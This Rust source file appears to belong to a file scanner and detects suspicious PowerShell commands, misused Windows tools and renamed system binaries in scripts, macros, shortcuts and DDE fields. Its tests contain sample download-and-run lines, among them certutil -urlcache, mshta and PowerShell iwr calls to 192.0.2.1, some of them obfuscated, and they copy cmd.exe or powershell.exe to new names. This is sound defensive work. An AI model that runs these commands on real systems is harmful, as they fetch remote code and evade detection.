//! Commands for PowerShell and misused tools of Windows, wherever something would run them: in scripts, macros,
//! shortcuts, build events and dynamic data exchange. A text that speaks of such commands is none of these, and of
//! a script only the texts that start with a program count, never its comments.

use std::borrow::Cow;
use std::collections::BTreeSet;

use super::{Analyzer, Findings, Found, Look, Sees};
use crate::formats::command_line::{self, Command};
use crate::formats::script::{self, Language, Token, TokenKind};
use crate::formats::vba::{Call, Event, Module, Receiver, Text, fold};
use crate::knowledge::CommandKnowledge;
use crate::model::{Artifact, Fact, Kind};
use crate::text;

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "command_lines",
    kinds: &[],
    sees: Sees::Content,
    findings: &[
        "powershell-command",
        "lolbin-command",
        "renamed-system-binary",
        "limit-exceeded",
    ],
    run,
};

/// Lines of one artifact that are looked at, at the most.
const LINES: usize = 20_000;

/// Lines up to this length are always looked at, in bytes.
const SHORT: usize = 1 << 10;

/// Bytes of longer lines that are looked at, for each byte of the artifact, and at the least: more than all of its
/// texts come to, so that only the same ones again and again are too many.
const ROOM: usize = 32;
const LEAST: usize = 8 << 20;

/// Functions and methods that copy or rename a file, given both names (lower case).
const COPYING: &[&str] = &[
    "copy",
    "move",
    "copyfile",
    "movefile",
    "copyfilesync",
    "rename",
    "renamesync",
    "copy2",
    "filecopy",
    "filemove",
    "copyto",
];

/// Longest line that is looked at, in bytes.
const LONGEST: usize = 64 << 10;

fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let artifact = look.artifact;
    let mut judge = Judge::new(look, findings);
    for fact in &artifact.facts {
        match fact {
            Fact::Shortcut {
                targets, arguments, ..
            } => {
                let target = targets.first().map(String::as_str).unwrap_or_default();
                judge.line(&format!("\"{target}\" {arguments}"), None);
            }
            Fact::Dde { command, at, .. } => judge.line(command, *at),
            Fact::BuildCommand { line, .. } | Fact::CommandLine { line } => {
                judge.line(line, None);
            }
            _ => {}
        }
    }
    match artifact.kind {
        Kind::Vbs => judge.basic(artifact),
        Kind::Bat | Kind::Sh => judge.lines(artifact),
        Kind::Ps1 => {
            judge.lines(artifact);
            judge.texts(artifact, Language::PowerShell);
        }
        // Scripts in markup are artifacts of their own.
        Kind::Wsf | Kind::Sct | Kind::Hta
            if look
                .children()
                .iter()
                .any(|child| child.via == Some("script-block")) => {}
        Kind::Js | Kind::Wsf | Kind::Sct | Kind::Hta => judge.texts(artifact, Language::Js),
        Kind::Py
        | Kind::Pl
        | Kind::Rb
        | Kind::Php
        | Kind::Lua
        | Kind::Au3
        | Kind::AppleScript
        | Kind::XlmSource => judge.texts(artifact, Language::Other),
        _ => {}
    }
}

/// Judges texts of a macro that calls something, each with its offset.
pub(super) fn judge(look: &Look<'_>, findings: &mut Findings<'_>, texts: &[(usize, String)]) {
    let mut judge = Judge::new(look, findings);
    for (at, text) in texts {
        judge.line(text, Some(*at));
    }
}

/// What a call of Basic gives as command lines: its texts, and together where they are program and arguments.
pub(super) fn lines_of(call: &Call<'_>) -> Vec<String> {
    let given = call.arguments.iter();
    let texts: Vec<&str> = given
        .filter_map(|one| one.value.as_text())
        .map(Text::as_str)
        .collect();
    // `f.GetFile("a").Copy "b"` names the first file on the way to the method.
    if matches!(call.name, "copy" | "move")
        && let Receiver::Object(trail) = call.receiver
        && let Some((_, from)) = trail.rsplit_once(">getfile:")
        && let Some(to) = texts.first()
    {
        return vec![format!("copyfile \"{from}\" \"{to}\"")];
    }
    let copies = matches!(call.name, "filecopy" | "copyfile" | "movefile" | "name");
    match texts.as_slice() {
        [from, to, ..] if copies => vec![format!("{} \"{from}\" \"{to}\"", call.name)],
        [program, arguments, ..] if !program.contains(' ') => {
            vec![format!("{program} {arguments}")]
        }
        all => all.iter().map(|text| (*text).to_owned()).collect(),
    }
}

struct Judge<'j, 'f> {
    knowledge: &'j CommandKnowledge,
    findings: &'j mut Findings<'f>,
    /// Evidence given before: one command is one finding.
    said: BTreeSet<(&'static str, String)>,
    /// Whether the artifact is a script for PowerShell itself.
    in_shell: bool,
    /// Bytes of long lines that are still looked at; `None` once there were more.
    room: Option<usize>,
}

impl<'j, 'f> Judge<'j, 'f> {
    fn new(look: &Look<'j>, findings: &'j mut Findings<'f>) -> Self {
        let size = look.artifact.data.len();
        Self {
            knowledge: &look.knowledge.commands,
            findings,
            said: BTreeSet::new(),
            in_shell: look.artifact.kind == Kind::Ps1,
            room: Some(size.saturating_mul(ROOM).saturating_add(LEAST)),
        }
    }

    /// Each line of a script whose lines are commands.
    fn lines(&mut self, artifact: &Artifact) {
        let source = text::to_utf8(&artifact.data);
        let borrowed = matches!(source, Cow::Borrowed(_));
        let mut offset = 0usize;
        for line in source.split('\n').take(LINES) {
            let at = borrowed.then_some(offset);
            offset = offset.saturating_add(line.len()).saturating_add(1);
            let bare = line.trim().trim_start_matches('@').trim_start();
            let word = bare
                .split_ascii_whitespace()
                .next()
                .unwrap_or_default()
                .to_ascii_lowercase();
            let comment = match artifact.kind {
                Kind::Bat => matches!(word.as_str(), "rem") || word.starts_with("::"),
                _ => word.starts_with('#'),
            };
            // What is shown and not written to a file is prose.
            let shown = matches!(
                word.as_str(),
                "echo" | "title" | "write-host" | "write-output"
            ) && !bare.contains('>')
                && !bare.contains('|')
                && !bare.contains('&');
            if !comment && !shown && !bare.is_empty() {
                self.line(bare, at);
            }
        }
    }

    /// The texts of a script in another language: commands stand in them.
    fn texts(&mut self, artifact: &Artifact, language: Language) {
        let source = text::to_utf8(&artifact.data);
        let borrowed = matches!(source, Cow::Borrowed(_));
        let (tokens, _) = script::tokens(&source, language);
        for token in tokens.iter().take(LINES.saturating_mul(50)) {
            if let TokenKind::Text(text) = &token.kind
                && text.len() > 6
            {
                self.line(text, borrowed.then_some(token.span.start));
            }
        }
        for (at, token) in tokens.iter().enumerate().take(LINES.saturating_mul(50)) {
            if let TokenKind::Name(name) = &token.kind
                && COPYING
                    .iter()
                    .any(|copying| copying.eq_ignore_ascii_case(name))
                && let Some((from, to)) = two_texts(&source, tokens.get(at..).unwrap_or_default())
            {
                let offset = borrowed.then_some(token.span.start);
                self.copied(from, to, &format!("{name}({from}, {to})"), offset);
            }
        }
    }

    /// The texts that a script in Basic comes to.
    fn basic(&mut self, artifact: &Artifact) {
        let module = Module::read(&artifact.data);
        fold(&module, &|_| 0, &mut |event| match event {
            Event::Call(call) => {
                for line in lines_of(call) {
                    self.line(&line, Some(call.at));
                }
            }
            Event::Text { text, statement } => self.line(text.as_str(), Some(statement.start)),
            _ => {}
        });
    }

    /// Judges one command line.
    fn line(&mut self, line: &str, at: Option<usize>) {
        let line = line
            .get(..line.floor_char_boundary(LONGEST))
            .unwrap_or(line);
        if line.len() > SHORT {
            let Some(room) = self.room else {
                return;
            };
            self.room = room.checked_sub(line.len());
            if self.room.is_none() {
                let what = "more command lines than are looked at";
                self.findings.report(Found::new("limit-exceeded", what));
                return;
            }
        }
        for command in command_line::commands(line) {
            self.command(&command, line, at);
        }
    }

    fn command(&mut self, command: &Command, line: &str, at: Option<usize>) {
        let arguments = with_slashes(&command.arguments);
        if self.knowledge.powershell.contains(&command.program) {
            self.powershell(command, &arguments, at);
        }
        if self.knowledge.misused(&command.program, &arguments) {
            let evidence = format!("{} {}", command.path, command.arguments);
            self.report("lolbin-command", None, &evidence, at, None);
        }
        let copies = matches!(
            command.program.as_str(),
            "copy"
                | "filecopy"
                | "copyfile"
                | "movefile"
                | "name"
                | "xcopy"
                | "move"
                | "ren"
                | "rename"
                | "copy-item"
                | "cp"
                | "cpi"
                | "move-item"
                | "rename-item"
                | "mv"
                | "mklink"
        );
        if copies {
            let words: Vec<String> = command
                .words()
                .into_iter()
                .filter(|word| !(word.starts_with('-') || word.starts_with('/') && word.len() <= 3))
                .map(|word| word.trim_matches(['\'', '"', ',', ';', ')']).to_owned())
                .collect();
            match words.as_slice() {
                // A link is named before what it leads to.
                [to, from, ..] if command.program == "mklink" => self.copied(from, to, line, at),
                [from, to, ..] => self.copied(from, to, line, at),
                _ => {}
            }
        }
    }

    fn powershell(&mut self, command: &Command, arguments: &str, at: Option<usize>) {
        let knowledge = self.knowledge;
        let holds = |list: &[String]| list.iter().any(|text| arguments.contains(text.as_str()));
        let marks = &knowledge.powershell_marks;
        if !holds(marks) || self.in_shell && command.arguments.starts_with(['=', '.']) {
            return;
        }
        let encoded = script::encoded_commands(&format!(" {}", command.arguments));
        let variant = if !encoded.is_empty() || holds(&knowledge.powershell_decodes) {
            Some("encoded")
        } else if holds(&knowledge.powershell_downloads) {
            Some("downloads")
        } else if is_hidden(arguments) {
            Some("hidden-window")
        } else {
            None
        };
        let evidence = format!("{} {}", command.path, command.arguments);
        let decoded = encoded.first().map(|(_, text)| text.as_str());
        self.report("powershell-command", variant, &evidence, at, decoded);
    }

    /// A known tool that gets another name.
    fn copied(&mut self, from: &str, to: &str, evidence: &str, at: Option<usize>) {
        let source = command_line::program(from);
        let Some(tool) = self.knowledge.tool(&source).map(str::to_owned) else {
            return;
        };
        // The tool itself, not a document of its name.
        let is_program = from
            .to_lowercase()
            .trim_end_matches(['"', '\''])
            .ends_with(".exe");
        let file = to
            .trim_matches(['"', '\''])
            .rsplit(['\\', '/'])
            .next()
            .unwrap_or_default();
        // `xcopy` takes a star behind the name as: this is a file.
        let file = file.trim_end_matches('*');
        let target = command_line::program(file);
        let named =
            file.contains('.') && !file.starts_with('.') && !file.contains('*') && file != "..";
        if is_program && named && !self.knowledge.is_name_of(&tool, &target) {
            self.report("renamed-system-binary", None, evidence, at, None);
        }
    }

    fn report(
        &mut self,
        id: &'static str,
        variant: Option<&'static str>,
        evidence: &str,
        at: Option<usize>,
        decoded: Option<&str>,
    ) {
        if !self.said.insert((id, evidence.to_owned())) {
            return;
        }
        let mut found = Found::new(id, evidence.trim());
        if let Some(variant) = variant {
            found = found.variant(variant);
        }
        if let Some(at) = at {
            found = found.at(at);
        }
        if let Some(decoded) = decoded {
            found = found.decoded(decoded);
        }
        self.findings.report(found);
    }
}

/// The two texts, as written, that a function is given whose name stands first.
fn two_texts<'s>(source: &'s str, call: &[Token<'_>]) -> Option<(&'s str, &'s str)> {
    // Behind the mark of a text of Python: `r"…"`.
    let mark = |token: &&Token<'_>| matches!(&token.kind, TokenKind::Name(name) if name.len() <= 2);
    let mut given = call.iter().skip(1).take(7).filter(|token| !mark(token));
    let mut next = |kind: fn(&TokenKind<'_>) -> bool| {
        let token = given.next().filter(|token| kind(&token.kind))?;
        source.get(token.span.clone())
    };
    next(|kind| *kind == TokenKind::Sign(b'('))?;
    let from = next(|kind| matches!(kind, TokenKind::Text(_)))?;
    next(|kind| *kind == TokenKind::Sign(b','))?;
    let to = next(|kind| matches!(kind, TokenKind::Text(_)))?;
    Some((from, to))
}

/// Arguments in lower case with a slash in front of each option, and marks that say nothing taken out, quotes within
/// words too.
fn with_slashes(arguments: &str) -> String {
    let mut out = String::with_capacity(arguments.len().saturating_add(1));
    let mut before = ' ';
    let kept = arguments.chars().filter(|c| !matches!(c, '^' | '`'));
    let mut kept = kept.peekable();
    while let Some(c) = kept.next() {
        let joins = |c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '-');
        if c == '"' && joins(before) && kept.peek().is_some_and(char::is_ascii_alphanumeric) {
            continue;
        }
        let option =
            matches!(c, '-' | '–' | '—' | '―') && (before.is_whitespace() || before == '"');
        out.extend(if option { '/' } else { c }.to_lowercase());
        before = c;
    }
    out
}

/// `-WindowStyle Hidden` in any of its short forms (about_PowerShell_exe): any beginning of the option; `1` is hidden.
fn is_hidden(arguments: &str) -> bool {
    let mut words = arguments
        .split(|c: char| c.is_whitespace() || c == ':')
        .filter(|word| !word.is_empty());
    while let Some(word) = words.next() {
        let option = word.strip_prefix('/').unwrap_or_default();
        if !option.is_empty() && "windowstyle".starts_with(option) {
            let style = words.next().unwrap_or_default().trim_matches(['"', '\'']);
            if style == "1" || !style.is_empty() && "hidden".starts_with(style) {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::tests as testing;
    use super::*;

    fn found(kind: Kind, source: &str) -> Vec<String> {
        let (findings, _) = testing::run(run, &[testing::holding(kind, source.as_bytes())]);
        findings
            .into_iter()
            .map(|finding| format!("{} {}", finding.id, finding.severity.as_str()))
            .collect()
    }

    #[test]
    fn commands_are_found_in_what_runs_them() {
        assert_eq!(
            found(Kind::Bat, "powershell -File a.ps1\r\n"),
            ["powershell-command high"]
        );
        assert_eq!(
            found(Kind::Bat, "@start /min powershell -w hidden -c x\r\n"),
            ["powershell-command critical"]
        );
        assert_eq!(
            found(
                Kind::Js,
                "s.Run(\"cmd /c powershell iwr http://192.0.2.1/a -o b\")"
            ),
            ["powershell-command critical"]
        );
        assert_eq!(
            found(
                Kind::Bat,
                "\"c\"e\"r\"tutil -ur\"lca\"che -f http://192.0.2.1/a b\r\n"
            ),
            ["lolbin-command high"]
        );
        assert_eq!(
            found(Kind::Bat, ",;cmd.exe,/c,mshta,http://192.0.2.1/a\r\n"),
            ["lolbin-command high"]
        );
        assert_eq!(
            found(Kind::Bat, "certutil -urlcache -f http://192.0.2.1/a b\r\n"),
            ["lolbin-command high"]
        );
        let ssh = |command: &str| {
            let line = format!("ssh -o ProxyCommand=\"{command}\" host\r\n");
            found(Kind::Bat, &line).contains(&"lolbin-command high".to_owned())
        };
        assert!(ssh("cmd /c start calc") && !ssh("ssh -W %h:%p gate"));
        assert_eq!(
            found(Kind::Vbs, "x = \"msh\" & \"ta http://192.0.2.1/a\"\r\n"),
            ["lolbin-command high"]
        );
        assert_eq!(
            found(
                Kind::Bat,
                "copy %windir%\\system32\\windowspowershell\\v1.0\\powershell.exe x.exe\r\n"
            ),
            ["renamed-system-binary critical"]
        );
    }

    #[test]
    fn tools_that_get_another_name_are_found_however_it_is_written() {
        for (kind, source) in [
            (
                Kind::Bat,
                "xcopy /y C:\\Windows\\System32\\rundll32.exe D:\\note.exe*\r\n",
            ),
            (
                Kind::Bat,
                "mklink D:\\a.exe C:\\Windows\\System32\\mshta.exe\r\n",
            ),
            (
                Kind::Ps1,
                "[IO.File]::Copy('C:\\Windows\\System32\\cmd.exe', \"D:\\x.exe\")\n",
            ),
            (
                Kind::Js,
                "f.CopyFile('C:\\\\Windows\\\\System32\\\\cmd.exe', 'D:\\\\x.exe');",
            ),
            (
                Kind::Py,
                "shutil.copy(r'C:\\Windows\\System32\\cmd.exe', r'D:\\x.exe')\n",
            ),
        ] {
            assert_eq!(
                found(kind, source),
                ["renamed-system-binary critical"],
                "{source}"
            );
        }
        for (kind, source) in [
            (
                Kind::Bat,
                "mklink C:\\tools\\cmd.exe C:\\Windows\\System32\\cmd.exe\r\n",
            ),
            (
                Kind::Ps1,
                "[IO.File]::Copy('C:\\a\\cmd.exe', 'D:\\winpe\\cmd.exe')\n",
            ),
            (Kind::Js, "f.copyFile('a.exe', 'b.exe'); g.copy('cmd.exe');"),
            (Kind::Py, "shutil.copy('cmd.exe.txt', 'x.exe')\n"),
        ] {
            assert_eq!(found(kind, source), Vec::<String>::new(), "{source}");
        }
    }

    #[test]
    fn words_about_commands_are_none() {
        for (kind, source) in [
            (
                Kind::Bat,
                "rem powershell -enc AAAA\r\n:: certutil -urlcache\r\necho use certutil -urlcache to fetch\r\n",
            ),
            (
                Kind::Bat,
                "certutil -dump a.cer\r\ncopy powershell.exe d:\\backup\r\nmsiexec /i setup.msi\r\nmkdir powershell\r\n",
            ),
            (
                Kind::Js,
                "// mshta http://x\nalert('powershell is needed here'); f('please run certutil -urlcache');",
            ),
            (
                Kind::Text,
                "powershell -enc AAAA\r\ncertutil -urlcache -f http://x y\r\n",
            ),
            (
                Kind::Ps1,
                "# certutil -urlcache\nCopy-Item powershell.exe -Destination D:\\tools\n",
            ),
            (Kind::Py, "x = 'powershell'\n"),
        ] {
            assert_eq!(found(kind, source), Vec::<String>::new(), "{source}");
        }
    }
}
